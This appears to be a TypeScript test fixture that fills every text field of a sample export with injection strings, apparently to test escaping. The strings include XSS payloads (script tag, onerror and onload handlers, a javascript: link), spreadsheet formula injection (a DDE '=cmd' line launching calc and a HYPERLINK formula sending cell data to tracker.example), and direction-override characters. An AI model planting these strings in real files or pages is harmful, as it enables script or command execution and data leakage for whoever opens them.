import type { ExportInput } from '../../../lib/exchange/exporter.ts';
import { observe } from '../../../lib/ledger/observe.ts';
import { figureEntry } from '../ledger/sample-session.ts';
import { sampleExport } from './sample-export.ts';

const script =
  '<script>window.wasRun=1</script><img src=x onerror=window.wasRun=1>"\'><svg onload=window.wasRun=1>';
const link =
  '![a](https://tracker.example/1.png) [b](javascript:window.wasRun=1) &lt;b&gt; <https://x.example>';
const formula = '=HYPERLINK("https://tracker.example/"&A1);=cmd|\' /C calc\'!A0\t@SUM(1)';
/** As long as a tag may be. */
const tag = '<img src=x onerror="window.wasRun=1">';
/** Formulas, markup, Markdown, an override of direction and a control character. */
export const hostile = `${formula} ${script} ${link} \u202e\u0007`;

/** The sample with an attack in every text that a page, a file or the reader may give. */
export function hostileExport(address: string): ExportInput {
  const sample = sampleExport();
  const [first] = sample.articles;
  if (!first) throw new Error('no article');
  const article = {
    ...first.article,
    url: address,
    title: hostile,
    publisher: hostile,
    outlet: hostile,
    tags: [tag],
    note: hostile,
  };
  const plainEntry = figureEntry('f0', `${hostile} 74 عضوا`, '74', {
    metric: 'coalition.members',
    verdict: 'agrees',
  });
  if (plainEntry.type !== 'figure') throw new Error('no figure');
  const figure = { ...plainEntry.figure, statements: ['members-2017'] };
  const entry = { ...plainEntry, figure };
  const source = { title: hostile, publisher: hostile, url: address, date: null };
  const set = sample.set && {
    ...sample.set,
    metrics: sample.set.metrics.map((metric) => ({
      ...metric,
      labels: { ar: hostile, en: hostile },
    })),
    statements: sample.set.statements.map((each) => ({ ...each, sources: [source] })),
  };
  const observation = observe(article, entry, { tags: [tag], note: hostile });
  return { ...sample, set, articles: [{ article, observations: [observation] }] };
}
